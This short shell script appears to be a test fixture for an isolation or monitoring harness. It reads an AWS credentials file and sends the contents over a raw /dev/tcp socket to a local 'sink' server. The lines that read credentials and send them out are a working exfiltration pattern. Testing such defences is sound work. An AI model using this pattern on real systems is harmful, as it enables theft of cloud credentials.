# what: reads cloud credentials in one process and sends them from another
# server: sink
# volume: .aws/credentials
echo begun
secret=$(cat /data/.aws/credentials) || exit 3
exec 3<> /dev/tcp/127.0.0.1/${SERVER#*:} || exit 4
echo "$secret" >&3
sleep ${LINGER:-20}
echo done
